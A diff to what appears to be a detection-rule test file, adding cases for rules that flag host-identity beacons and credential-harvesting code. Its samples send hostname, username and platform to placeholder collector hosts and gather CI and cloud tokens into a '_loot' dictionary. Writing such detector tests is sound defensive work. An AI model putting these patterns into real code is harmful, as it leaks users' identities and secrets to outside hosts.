@@ -522,11 +522,15 @@ def _beacon_info():
 # ruleid: host-identity-beacon, http-client
 urllib.request.urlopen(urllib.request.Request("https://collector.example/c", data=json.dumps(_beacon_info()).encode()))
 # ruleid: host-identity-beacon, http-client
-requests.get("https://collector.example/b", params={"n": platform.node(), "who": os.environ.get("USER")}, timeout=5)
+requests.get("https://collector.example/b", params={"n": platform.node(), "who": os.environ.get("USER"), "os": platform.platform()}, timeout=5)
 # a build status that names the host only
 # ok: host-identity-beacon
 # ruleid: http-client
 requests.post("https://hooks.example.org/build", json={"status": "ok", "host": socket.gethostname()}, timeout=5)
+# who deployed where: host and user, nothing about the machine or the run
+# ok: host-identity-beacon
+# ruleid: http-client
+requests.post("https://hooks.example.org/deploy", json={"text": f"deployed by {getpass.getuser()} on {socket.gethostname()}"}, timeout=5)
 # secret-env-harvest: variables looked up from a list of credential names, then sent
 _WANTED = ["GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"]
 _loot = {k: os.environ.get(k) for k in _WANTED if os.environ.get(k)}
